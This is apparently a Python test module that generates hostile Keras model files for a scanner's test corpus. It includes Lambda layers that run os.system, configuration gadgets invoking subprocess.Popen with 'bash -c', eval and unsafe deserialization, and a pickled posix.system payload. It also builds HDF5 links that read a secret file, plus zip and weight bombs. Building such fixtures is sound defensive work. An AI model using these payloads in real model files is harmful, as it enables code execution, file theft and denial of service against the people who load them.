"""Keras models that run code, read other files, unpack without end, or can be read in two ways."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

from tests.hostile import zips
from tests.hostile.corpus import Family, Place
from tests.hostile.sound_keras import SHAPE, archive, hdf5, members, sound, with_config

FAMILY = Family("Keras")


# --- code in a configuration ------------------------------------------------------------------------------------------

CODE = "CVE-2024-3660, 2025-9905"


def _lambda_layer(place: Place) -> dict[str, Any]:
    import keras
    from keras import layers as kl

    command = place.command
    layer = kl.Lambda(lambda images, command=command: (__import__("os").system(command), images)[1], output_shape=SHAPE)
    return dict(keras.saving.serialize_keras_object(layer))


for _suffix, _write in ((".keras", archive), (".h5", with_config)):

    def _lambda(place: Place, suffix: str = _suffix, write: Any = _write) -> Path:
        layer = _lambda_layer(place)
        return write(place.folder / f"net{suffix}", lambda config: config["config"]["layers"].insert(1, layer))  # type: ignore[no-any-return]

    def _old_lambda(place: Place, suffix: str = _suffix, write: Any = _write) -> Path:
        layer = {
            "class_name": "Lambda",
            "config": {"name": "l", "function": ["4wEAAAA=", None, None], "function_type": "lambda"},
        }
        return write(place.folder / f"net{suffix}", lambda config: config["config"]["layers"].insert(1, layer))  # type: ignore[no-any-return]

    FAMILY.add("Lambda layer", "model", "Lambda layer", _lambda, f"Lambda layer in {_suffix}", CODE)
    FAMILY.add("Lambda layer", "model", "Lambda layer", _old_lambda, f"Lambda of Keras 2 in {_suffix}", CODE)

#: What a configuration may name that does more than compute, its part of the reason, and the advisories.
GADGETS: dict[str, tuple[Callable[[Place], dict[str, Any]], str, str]] = {
    "os.system": (
        lambda p: {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"},
        "code from outside Keras",
        "CVE-2025-1550",
    ),
    "subprocess.Popen": (
        lambda p: {"module": "subprocess", "class_name": "Popen", "config": {"args": ["bash", "-c", p.command]}},
        "code from outside Keras",
        "CVE-2025-1550",
    ),
    "eval as a builtin": (
        lambda p: {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"},
        "names the function 'eval'",
        "CVE-2025-1550",
    ),
    "get_file": (
        lambda p: {
            "module": "keras.utils",
            "class_name": "function",
            "config": "get_file",
            "registered_name": "get_file",
        },
        "names the function 'get_file'",
        "CVE-2025-8747",
    ),
    "get_file as a class": (
        lambda p: {
            "module": "keras.utils",
            "class_name": "get_file",
            "config": {"origin": f"http://127.0.0.1:{p.port}/x"},
        },
        "cannot be translated",
        "CVE-2025-8747",
    ),
    "unsafe deserialization switched on": (
        lambda p: {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"},
        "names the function 'enable_unsafe_deserialization'",
        "CVE-2025-9906",
    ),
    "load_model": (
        lambda p: {"module": "keras.models", "class_name": "function", "config": "load_model"},
        "names the function 'load_model'",
        "CVE-2025-8747",
    ),
    "a registered name": (
        lambda p: {"module": None, "class_name": "Theirs", "config": {}, "registered_name": "theirs>Theirs"},
        "code from outside Keras",
        "CVE-2026-12481",
    ),
    "a pickled torch module": (
        lambda p: {
            "module": "keras.layers",
            "class_name": "TorchModuleWrapper",
            "config": {"name": "t", "module": "gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"},
        },
        "code from outside Keras",
        "CVE-2026-12481, 2026-12484",
    ),
    "a vocabulary in a file": (
        lambda p: {
            "module": "keras.layers",
            "class_name": "StringLookup",
            "config": {"name": "s", "vocabulary": str(p.secret)},
        },
        "StringLookup",
        "CVE-2025-12058",
    ),
    "a foreign SavedModel": (
        lambda p: {
            "module": "keras.layers",
            "class_name": "TFSMLayer",
            "config": {"name": "t", "filepath": str(p.secret.parent)},
        },
        "TFSMLayer",
        "CVE-2026-1462",
    ),
}
for _name, (_gadget, _says, _threat) in GADGETS.items():

    def _as_initializer(place: Place, gadget: Any = _gadget) -> Path:
        return archive(
            place.folder / "net.keras",
            lambda config: config["config"]["layers"][-1]["config"].update(kernel_initializer=gadget(place)),
        )

    def _as_layer(place: Place, gadget: Any = _gadget) -> Path:
        return with_config(
            place.folder / "net.h5", lambda config: config["config"]["layers"].insert(1, gadget(place) | {"name": "g"})
        )

    FAMILY.add("code named in a configuration", "model", _says, _as_initializer, f"{_name} as an initializer", _threat)
    FAMILY.add("code named in a configuration", "model", _says, _as_layer, f"{_name} as a layer", _threat)


@FAMILY.file("configuration that is no configuration", "model", "stands twice")
def a_key_twice_in_the_configuration(place: Place) -> Path:
    content = members()
    doubled = content["config.json"].replace(b'{"module"', b'{"class_name": "Lambda", "module"', 1)
    (place.folder / "net.keras").write_bytes(zips.pack(content | {"config.json": doubled}))
    return place.folder / "net.keras"


@FAMILY.file("configuration that is no configuration", "model", "damaged")
def a_configuration_nested_without_end(place: Place) -> Path:
    deep = b'{"class_name": "Sequential", "config": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    (place.folder / "net.keras").write_bytes(zips.pack(members() | {"config.json": deep}))
    return place.folder / "net.keras"


# --- sizes ------------------------------------------------------------------------------------------------------------

BOMB = "CVE-2026-0897, 2026-12570"


def _find(file: h5py.File, rank: int) -> str:
    found: list[str] = []
    file.visititems(
        lambda name, item: found.append(name) if isinstance(item, h5py.Dataset) and item.ndim == rank else None
    )
    return found[0]


def _bomb(file: h5py.File) -> None:
    key = _find(file, 4)
    del file[key]
    file.create_dataset(key, (3, 3, 3, 1 << 34), np.float32, chunks=(3, 3, 3, 1 << 10))


def _zeros(file: h5py.File) -> None:
    key = _find(file, 4)
    del file[key]
    file.create_dataset(key, data=np.zeros((3, 3, 3, 1 << 21), np.float32), compression="gzip", compression_opts=9)


def _wide_chunk(file: h5py.File) -> None:
    key = _find(file, 2)
    shape = file[key].shape
    del file[key]
    wide = {"chunks": (1 << 14, 1 << 14), "maxshape": (None, None), "compression": "gzip"}
    file.create_dataset(key, shape, np.float32, **wide)


def inside(change: Callable[[h5py.File], None]) -> Callable[[Place], Path]:
    """Return what writes a .keras file whose weights are changed."""

    def write(place: Place) -> Path:
        content, path = members(), place.folder / "net.keras"
        weights = place.folder / "weights.h5"
        weights.write_bytes(content["model.weights.h5"])
        with h5py.File(weights, "a") as file:
            change(file)
        path.write_bytes(zips.pack(content | {"model.weights.h5": weights.read_bytes()}))
        return path

    return write


for _name, _change in (("declared", _bomb), ("packed", _zeros), ("in one chunk", _wide_chunk)):

    def _in_hdf5(place: Place, change: Any = _change) -> Path:
        return hdf5(place.folder / "net.h5", change)

    FAMILY.add(
        "weights far larger than the file", "model", "far more than its size", _in_hdf5, f"bomb {_name} in .h5", BOMB
    )
    FAMILY.add(
        "weights far larger than the file",
        "model",
        "far more than its size",
        inside(_change),
        f"bomb {_name} in .keras",
        BOMB,
    )


def _update(index: int, **options: Any) -> Callable[[dict[str, Any]], None]:
    def change(config: dict[str, Any]) -> None:
        layers = config["config"]["layers"]
        layers[index]["config"].update(options)
        for layer in (*layers, config, config["config"]):
            layer.pop("build_config", None)
            layer.pop("build_input_shape", None)

    return change


def _insert(layer: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
    def change(config: dict[str, Any]) -> None:
        config["config"]["layers"].insert(1, {"module": "keras.layers", "registered_name": None, **layer})
        _update(-1)(config)

    return change


LARGE: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    "ten thousand million units": (_update(-1, units=10**10), "its file holds"),
    "filters without end": (_update(1, filters=1 << 40), "its file holds"),
    "images of 10^10 pixels": (_update(0, batch_shape=[None, 100_000, 100_000, 3]), "refused, "),
    "pixels repeated": (
        _insert(
            {
                "class_name": "UpSampling2D",
                "config": {"name": "u", "size": [20_000, 20_000], "interpolation": "nearest"},
            }
        ),
        "refused, ",
    ),
    "a border of 10^9 pixels": (
        _insert(
            {"class_name": "ZeroPadding2D", "config": {"name": "z", "padding": [[30_000, 30_000], [30_000, 30_000]]}}
        ),
        "refused, ",
    ),
}
for _name, (_edit, _says) in LARGE.items():
    for _suffix, _write in ((".keras", archive), (".h5", with_config)):

        def _large(place: Place, edit: Any = _edit, suffix: str = _suffix, write: Any = _write) -> Path:
            return write(place.folder / f"net{suffix}", edit)  # type: ignore[no-any-return]

        FAMILY.add("configuration of an enormous network", "model", _says, _large, f"{_name} in {_suffix}", BOMB)


@FAMILY.file("configuration of an enormous network", "model", "at most 3,000 layers")
def a_hundred_thousand_layers(place: Place) -> Path:
    def change(config: dict[str, Any]) -> None:
        flat = {"module": "keras.layers", "class_name": "Dropout", "registered_name": None}
        config["config"]["layers"][1:1] = [{**flat, "config": {"name": f"d{i}", "rate": 0.5}} for i in range(100_000)]

    return archive(place.folder / "net.keras", change)


@FAMILY.file("zip bomb", "model", "far more than its size")
def a_packed_configuration(place: Place) -> Path:
    path = place.folder / "net.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed, packed.open("config.json", "w") as entry:
        for _ in range(200):
            entry.write(b" " * (1 << 20))
    return path


# --- other files ------------------------------------------------------------------------------------------------------

OUTSIDE = "CVE-2026-1669, 2026-9335, 2026-12480"


def links(place: Place) -> dict[str, Callable[[h5py.File], None]]:
    """Return the ways in which HDF5 leads to another file."""
    name = str(place.secret)

    def replace(file: h5py.File) -> tuple[str, tuple[int, ...]]:
        key = _find(file, 4)
        shape = file[key].shape
        del file[key]
        return key, shape

    def external_link(file: h5py.File) -> None:
        file[replace(file)[0]] = h5py.ExternalLink(name, "x")

    def soft_link(file: h5py.File) -> None:
        key, _ = replace(file)
        file["hidden/x"] = h5py.ExternalLink(name, "x")
        file[key] = h5py.SoftLink("/hidden/x")

    def storage(file: h5py.File) -> None:
        key, shape = replace(file)
        file.create_dataset(key, shape, np.float32, external=[(name, 0, int(np.prod(shape)) * 4)])

    def virtual(file: h5py.File) -> None:
        key, shape = replace(file)
        layout = h5py.VirtualLayout(shape, np.float32)
        layout[:] = h5py.VirtualSource(name, "x", shape)
        file.create_virtual_dataset(key, layout)

    return {
        "external link": external_link,
        "soft link": soft_link,
        "external storage": storage,
        "virtual data set": virtual,
    }


for _name in ("external link", "soft link", "external storage", "virtual data set"):

    def _linked(place: Place, name: str = _name) -> Path:
        return hdf5(place.folder / "net.h5", links(place)[name])

    def _linked_inside(place: Place, name: str = _name) -> Path:
        return inside(links(place)[name])(place)

    FAMILY.add("weights in another file", "model", "points to another file", _linked, f"{_name} in .h5", OUTSIDE)
    FAMILY.add(
        "weights in another file", "model", "points to another file", _linked_inside, f"{_name} in .keras", OUTSIDE
    )


def swap_filter(content: bytes, old: int, new: int) -> bytes:
    """Return HDF5 whose first filter of one number has another."""
    at = content.index(b"\x01\x00\x01\x00\x00\x00\x00\x00")
    return content[:at] + content[at:].replace(old.to_bytes(2, "little"), new.to_bytes(2, "little"), 1)


@FAMILY.file("weights in another file", "model", "inside itself")
def a_group_that_holds_itself(place: Place) -> Path:
    return hdf5(place.folder / "net.h5", lambda file: file.__setitem__("loop", file["/"]))


@FAMILY.file("damaged HDF5", "model", "damaged", threat="CVE-2026-26200")
def a_header_that_lies(place: Place) -> Path:
    content = bytearray(sound(".h5"))
    place_of_heap = content.index(b"HEAP")
    content[place_of_heap + 8 : place_of_heap + 16] = b"\xff" * 8
    path = place.folder / "net.h5"
    path.write_bytes(bytes(content))
    return path


@FAMILY.file("damaged HDF5", "model", "damaged")
def attributes_of_another_version(place: Place) -> Path:
    """Found by fuzzing: h5py cannot say whether there is an attribute, and says so with a RuntimeError."""
    content = bytearray(sound(".h5"))
    for name in (b"backend", b"keras_version", b"model_config"):
        at = content.index(name + b"\0") - 8
        content[at] = 99
    path = place.folder / "net.h5"
    path.write_bytes(bytes(content))
    return path


@FAMILY.file("damaged HDF5", "model", "damaged", threat="CVE-2026-26200")
def a_tree_that_lies(place: Place) -> Path:
    content = sound(".h5").replace(b"TREE\x00", b"TREE\x01")
    path = place.folder / "net.h5"
    path.write_bytes(content)
    return path
